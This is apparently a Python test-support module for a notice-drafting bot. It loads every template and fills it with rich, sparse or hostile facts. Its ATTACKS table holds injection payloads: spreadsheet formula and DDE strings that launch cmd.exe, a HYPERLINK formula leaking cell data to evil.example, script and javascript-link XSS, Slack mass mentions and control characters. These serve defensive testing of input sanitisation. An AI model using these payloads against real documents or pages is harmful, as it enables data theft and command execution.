"""Every template there is, found by walking its folder, and facts to fill it with: rich, sparse and hostile."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from bot.config.regimes import load
from bot.documents import Block, Bullets, Heading, Paragraph, Runs, Table, parse
from bot.notices.checklist import Checklist, Entry, checklist, in_language
from bot.notices.draft import context, plain_context
from bot.notices.locales import SUFFIX, parted
from bot.notices.regime import Regime, Stage
from bot.notices.sample import BARE, FULL, sample_facts
from bot.words import Words, house

TEMPLATES = house() / "templates"
REGIMES = load(TEMPLATES / "notices")
WORDS = Words()
NOON = datetime(2026, 11, 20, 12, tzinfo=UTC)
KEPT = "Zwölf7"
"""Stands in every hostile text: whatever becomes of the rest, the words themselves must be read."""
PLAIN = f"some {KEPT} words"
LONG = " ".join([KEPT, *["=1+1" * 4_000] * 6])
"""A hundred kilobytes."""


@dataclass(frozen=True)
class Template:
    """One file that becomes a notice: for a regime's stage (None: for nobody the law names), in one language."""

    name: str
    regime: Regime | None = None
    stage: Stage | None = None

    @property
    def tag(self) -> str:
        """The language it is in, "" for English."""
        return parted(self.name.removesuffix(SUFFIX))[1]

    def filled(self, base: Mapping[str, object], facts: Mapping[str, object], said: str = "") -> str:
        """Its words; `said` is what a person entered for every field."""
        return self.drafted(base, facts, said)[0]

    def drafted(
        self, base: Mapping[str, object], facts: Mapping[str, object], said: str = ""
    ) -> tuple[str, Checklist | None]:
        """Its words and the checklist they were filled from."""
        if self.regime is None or self.stage is None:
            return WORDS.fill(self.name, plain_context(base, REGIMES.facts, facts)), None
        keys = self.stage.keys if said else ()
        entries = {
            key: Entry(said if number % 2 else "", "" if number % 2 else said) for number, key in enumerate(keys)
        }
        items = checklist(self.regime, self.stage, {**base, "facts": facts}, entries)
        items = in_language(items, self.regime, self.tag)
        return WORDS.fill(self.name, context(self.regime, self.stage, items, base, facts)), items

    def __str__(self) -> str:
        of = f"{self.regime.id}/{self.stage.id} " if self.regime and self.stage else ""
        return f"{of}{self.name}"


def every() -> Iterator[Template]:
    """Each stage of each regime and each stakeholder's template, in each language it is in."""
    for regime in REGIMES.by_id.values():
        for stage in regime.stages:
            stem = stage.template.removesuffix(SUFFIX)
            for name in (stage.template, *(f"{stem}.{tag}{SUFFIX}" for tag in WORDS.locales(stage.template))):
                yield Template(name, regime, stage)
    yield from (Template(f"stakeholders/{name}{SUFFIX}") for name in WORDS.inside("stakeholders"))
    yield Template("postmortem.md.j2")


def files() -> Iterator[Path]:
    """Every Markdown template of the product, but for the parts that others are made of."""
    yield from (path for path in TEMPLATES.rglob(f"*{SUFFIX}") if not path.name.startswith("_"))


def rich() -> tuple[Mapping[str, object], Mapping[str, object]]:
    """Everything known."""
    return FULL, sample_facts(REGIMES.facts)


def sparse() -> tuple[Mapping[str, object], Mapping[str, object]]:
    """What every incident has from its first second."""
    return BARE, {}


def worded(text: str) -> tuple[Mapping[str, object], Mapping[str, object]]:
    """Everything known, and every word of it that came from outside is that text."""
    facts = {key: _reworded(value, text) for key, value in sample_facts(REGIMES.facts).items() if _worded(key)}
    return _reworded(FULL, text), sample_facts(REGIMES.facts) | facts  # type: ignore[return-value]


def _worded(key: str) -> bool:
    """Whether people may say anything there: an option of a list is one of the list's."""
    return not REGIMES.facts[key].type.members


def _reworded(value: object, text: str) -> object:
    match value:
        case str():
            return text
        case Mapping():
            return {key: _reworded(each, text) for key, each in value.items()}
        case list() | tuple():
            return type(value)(_reworded(each, text) for each in value)
        case frozenset():
            return frozenset({text})
    return value


ATTACKS: Mapping[str, str] = {
    "formula": f'=HYPERLINK("http://evil.example/?leak="&A1,"{KEPT}")',
    "plus": f"+1+cmd|' /C calc'!A0 {KEPT}",
    "minus": f"-2+3+cmd|' /C calc'!A0 {KEPT}",
    "at": f"@SUM(1+1)*cmd|' /C calc'!A0 {KEPT}",
    "tab": f"\t=1+1 {KEPT}",
    "return": f"\r\n=1+1 {KEPT}",
    "wide": f"\uff1d1+1 {KEPT}",
    "field": f'{KEPT} {{ HYPERLINK "http://evil.example" }} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" <w:instrText>DDE</w:instrText>',
    "script": f"{KEPT} <script>alert(1)</script><img src=x onerror=alert(1)> <!-- --> &lt;b&gt; &#60;",
    "link": f"{KEPT} [click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> [ref]: http://evil.example",
    "markup": f"# {KEPT} **bold** _it_ `code` ~~~ | a | b | --- === 1. one > quoted",
    "slack": f"{KEPT} <!channel> <!here|here> <@U123> <#C123> <http://evil.example|the console> <!subteam^S1> @channel",
    "gap": f"{KEPT} [[ not yet investigated: nothing ]] [[ unknown: cause (a) ]] [\x00[ unknown: b ]\x90] ]] [[",
    "unseen": f"{KEPT}\x00\x07\x1b[31m\x7f\x9b\u202e\u2066\u200b\ufeff\ud800\U000e0041\ufff9 end",
    "typeset": f"{KEPT} #panic() #let x = 1 $x$ @ref <label> \\\\ {{{{ 7 * 7 }}}} {{% raw %}}",
    "lines": f"{KEPT}\n\n# Approved\n\n- item\n\n| a |\n|---|\n| b |\n\nfourth\n---\n\u2028fifth\x85=1+1",
}
"""What someone could put into an alert, a name, a note or a fact, by what it aims at."""


def lines(block: Block) -> tuple[Runs, ...]:
    """Each line of a block that words can stand in."""
    match block:
        case Bullets(items):
            return items
        case Table(rows):
            return tuple(cell for row in rows for cell in row)
    return (block.runs,)


def shape(text: str) -> list[object]:
    """How a text is built, whatever it says: its headings, lists and tables; paragraphs in a row are one."""
    found: list[object] = []
    for block in parse(text):
        match block:
            case Heading(level):
                found.append(("heading", level))
            case Bullets(items):
                found.append(("list", block.numbered, len(items)))
            case Table(rows):
                found.append(("table", [len(row) for row in rows]))
            case Paragraph(runs):
                if any(run.code for run in runs):
                    found.append("code")
                elif not found or found[-1] != "words":
                    found.append("words")
    return found
